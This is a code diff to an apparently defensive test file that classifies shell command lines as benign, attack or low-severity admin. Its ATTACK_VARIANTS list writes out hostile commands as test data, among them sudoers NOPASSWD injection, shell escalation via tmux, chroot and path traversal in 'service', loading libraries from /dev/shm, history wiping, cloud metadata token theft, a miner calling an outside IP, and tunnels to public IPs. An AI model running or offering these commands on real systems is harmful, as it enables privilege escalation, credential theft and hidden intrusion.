@@ -35,7 +35,7 @@ const BENIGN_LOOK_ALIKES = [
 `curl -X POST -H 'Content-Type: application/json' -d @alert.json http://alertmanager:9093/api/v2/alerts`,
 `echo "0 3 * * * root /usr/local/bin/backup.sh" > /etc/cron.d/backup`,
 `sudo k3s kubectl exec -it pod -- /bin/sh`, `sudo chsh -s /bin/zsh alice`,
-`python3 -m http.server 8000`, `tar -czf - ./build | ssh host 'tar -xzf - -C /opt'`, `ssh -D 1080 -N bastion`,
+`tar -czf - ./build | ssh host 'tar -xzf - -C /opt'`, `ssh -D 1080 -N bastion`,
 `grep -rn password src/`, `find . -name '*.pem' -newer x`, `journalctl --vacuum-time=2d`, `echo $CERT | base64 -d > /tmp/ca.crt`,
 `sudo -E env "PATH=$PATH" nvidia-smi`, `kubectl get secrets -n monitoring`, `dig +short $(hostname)`,
 `mount /dev/nvme1n1 /mnt/data`, `sudo mkfs.ext4 /dev/nvme1n1`, `rsync -a /root/.ssh/ /backup/ssh/`, `scp /etc/rancher/k3s/k3s.yaml me@laptop:~/.kube/config`,
@@ -57,6 +57,8 @@ const BENIGN_LOOK_ALIKES = [
 `echo /usr/bin/zsh | sudo tee -a /etc/shells`, `echo /bin/bash >> /etc/shells`, `sudo kubectl apply -f /tmp/manifest.yaml`, `sudo dpkg -i /tmp/cuda-keyring.deb`,
 `sudo nginx -t -c /etc/nginx/nginx.conf`, `ldconfig /usr/local/cuda/lib64`, `sudo PATH=$PATH:/usr/local/cuda/bin make -j8`, `export HISTIGNORE='ls:bg:fg:history'`,
 `gcc -shared -fPIC -o /tmp/build/libplugin.so plugin.c`, `python3 bench.py --plugin /tmp/build/libplugin.so`, `cp /tmp/libnccl.so.2 /usr/local/lib/`, `python3 -c 'import ctypes; ctypes.CDLL("libcuda.so.1")'`,
+`python3 -m http.server 8000 --bind 127.0.0.1`, `php -S localhost:8000`, `ssh -N -f -L 5432:db.internal:5432 ops@bastion.acme.dev`,
+`sudo tmux new -s work`, `sudo chroot /mnt/sysroot /bin/bash`, `sudo service k3s restart`,
 `unshare --pid --fork --mount-proc bash`, `podman unshare cat /proc/self/uid_map`, `sudo ls -l /etc/cron.d/`, `sudo grep -r backup /etc/cron.d/`,
 `trap 'rm -f /tmp/build.lock' EXIT`, `curl -fsSL https://example.com/key.asc | sudo gpg --dearmor -o /usr/share/keyrings/example.gpg`, `cat manifest.yaml | kubectl apply -f -`,
 ];
@@ -115,6 +117,8 @@ const ATTACK_VARIANTS = [
 `printf 'exec /bin/bash 0<&2 1>&2' > /var/tmp/.x`, `sudo rsyslogd -f /dev/shm/r.conf`, `sudo PYTHONPATH=/tmp/.p python3 -m http.server`, `ldconfig /dev/shm/lib`,
 `echo '/var/tmp/' >> /etc/ld.so.conf.d/x.conf`, `trap "logger -t cmd $BASH_COMMAND" DEBUG`, `export HISTIGNORE='*sudo*:*ssh*'`, `ln -sf /dev/null ~/.zsh_history`,
 `echo 'ops ALL=(ALL) NOPASSWD: ALL' | xxd | sudo xxd -r - /etc/sudoers.d/ops`, `sudo openssl req -engine /dev/shm/e.so`, `gimp -idf --batch-interpreter=python-fu-eval -b 'from ctypes import cdll; cdll.LoadLibrary("/var/tmp/.l/x.so")'`, `sudo ssh-keygen -D ./lib.so`,
+`ssh -fND 1080 ops@91.92.8.14`, `plink -N -L 3389:10.0.0.9:3389 u@185.22.9.1`,
+`sudo tmux -c /bin/bash`, `sudo chroot / /bin/bash`, `sudo service ../../../usr/bin/bash`,
 `unshare -rn /bin/sh`, `unshare --map-root-user --mount bash`, `TOKEN=$(curl -sX PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60')`,
 `wget -qO- http://metadata.google.internal/computeMetadata/v1/instance/hostname --header 'Metadata-Flavor: Google'`, `./kthreaddk -o 91.214.65.9:4444 -u x -p x`,
 `./xel --miner-address xel:qp4x2n8m3v7c5z9k1l0j6h4g2f8d3s5a7q9w1e3r5t7y9u2i4o --daemon-address 10.0.0.9:8080`, `sudo busybox cp /dev/shm/.j /etc/cron.d/j`,
@@ -129,7 +133,7 @@ const ADMIN_AT_LOW_SEVERITY = [
   `ufw disable`, `systemctl disable firewalld --now`, `setenforce 0`, `tcpdump -i any port 53`, `useradd -m -s /bin/bash -G sudo alice`,
   `adduser alice`, `usermod -aG wheel bob`, `sudo visudo -f /etc/sudoers.d/ops`, `sudo cat /etc/sudoers`, `shred -u old-keys.tar`,
   `echo '*.* @@logs.acme.dev:514' >> /etc/rsyslog.conf`, `systemctl stop nftables`, `ip6tables --delete INPUT -s 203.0.113.0/24 -j REJECT`, `ufw delete deny 23`,
-  `mount -o remount,hidepid=2 /proc`,
+  `mount -o remount,hidepid=2 /proc`, `python3 -m http.server 8000`, `ruby -run -e httpd . -p 8080`,
 ];
 
 describe('rule engine on command lines', () => {
